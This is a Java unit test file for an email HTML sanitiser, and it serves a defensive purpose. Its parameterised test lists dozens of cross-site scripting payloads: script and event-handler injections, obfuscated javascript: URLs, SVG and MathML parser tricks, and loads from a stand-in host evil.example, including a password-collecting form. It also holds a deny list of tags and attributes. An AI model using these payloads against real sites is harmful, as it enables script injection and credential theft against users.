package org.handrail.kernel.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Optional;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RichTextTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<img/src='x'/onerror=alert(1)//",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" &#14;javascript:alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href='https://evil.example/'>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object>",
        "<embed src='javascript:alert(1)'>",
        "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>go</button></form>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<a href=\"https://x.example\" onclick=\"alert(1)\" style=\"position:fixed\" id=\"a\" class=\"b\" name=\"c\">x</a>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<p title='\u0000<script>alert(1)</script>'>x</p>",
      })
  void nothingThatActsSurvives(String attack) {
    assertHarmless(RichText.forStorage(attack));
    assertHarmless(RichText.forSending(attack));
    assertHarmless(RichText.forDisplay(attack, cid -> Optional.empty(), true));
  }

  private static void assertHarmless(String html) {
    for (Element element : Jsoup.parseBodyFragment(html).body().select("*")) {
      assertThat(element.normalName())
          .as(html)
          .isNotIn(
              "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input",
              "link", "meta")
          .isNotIn("base", "button", "video", "details", "textarea", "noscript");
      for (Attribute attribute : element.attributes()) {
        assertThat(attribute.getKey())
            .as(html)
            .doesNotStartWith("on")
            .isNotIn("style", "class", "id", "name");
        assertThat(attribute.getValue())
            .as(html)
            .doesNotContainIgnoringCase("javascript:")
            .doesNotContain("svg");
      }
    }
  }

  @Test
  void formattingOfAnOrdinaryMailStays() {
    String mail =
        "<p>Hello <b>all</b>,</p><ul><li>one</li></ul><blockquote>quoted</blockquote>"
            + "<table><tbody><tr><td colspan=\"2\">cell</td></tr></tbody></table>";

    assertThat(RichText.forStorage(mail)).isEqualTo(mail);
  }

  @Test
  void linksOpenElsewhereAndTellNothing() {
    assertThat(RichText.forStorage("<a href='https://x.example/?a=1&amp;b=2'>x</a>"))
        .isEqualTo(
            "<a href=\"https://x.example/?a&#61;1&amp;b&#61;2\" target=\"_blank\""
                + " rel=\"noopener noreferrer nofollow\">x</a>");
  }

  @Test
  void linkIntoOurOwnSiteIsNoLink() {
    assertThat(RichText.forStorage("<a href='/admin/delete?id=1'>x</a>")).isEqualTo("x");
  }

  @Test
  void remoteImageWaitsForConsent() {
    String stored = RichText.forStorage("<img src='http://t.example/p.gif' alt='logo'>");

    assertThat(stored).isEqualTo("<img alt=\"logo\" data-src=\"http://t.example/p.gif\" />");
    assertThat(RichText.forDisplay(stored, cid -> Optional.empty(), false)).isEqualTo(stored);
    assertThat(RichText.forDisplay(stored, cid -> Optional.empty(), true))
        .isEqualTo("<img alt=\"logo\" src=\"http://t.example/p.gif\" />");
    assertThat(RichText.forSending(stored)).isEqualTo("<img alt=\"logo\" />");
  }

  @Test
  void imageOfTheMailIsServedAsItsAttachment() {
    String stored = RichText.forStorage("<img src='cid:logo@x'>");

    assertThat(stored).isEqualTo("<img src=\"cid:logo&#64;x\" />");
    assertThat(RichText.forDisplay(stored, cid -> Optional.of("/attachment/7?c=" + cid), false))
        .isEqualTo("<img src=\"/attachment/7?c&#61;logo&#64;x\" />");
    assertThat(RichText.forDisplay(stored, cid -> Optional.empty(), false)).isEmpty();
  }

  @Test
  void cleaningTwiceChangesNothing() {
    String once =
        RichText.forStorage(
            "<p dir=rtl>x</p><img src=//t.example/a><a href=HTTPS://x.example>l</a><img src=data:image/png;base64,AAAA>");

    assertThat(RichText.forStorage(once)).isEqualTo(once);
    assertThat(once).contains("data-src=\"https://t.example/a\"", "data:image/png;base64,AAAA");
  }

  @Test
  void titleAndStyleOfAWholeDocumentAreNotText() {
    assertThat(
            RichText.forStorage(
                "<html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>"))
        .isEqualTo("<p>x</p>");
  }
}
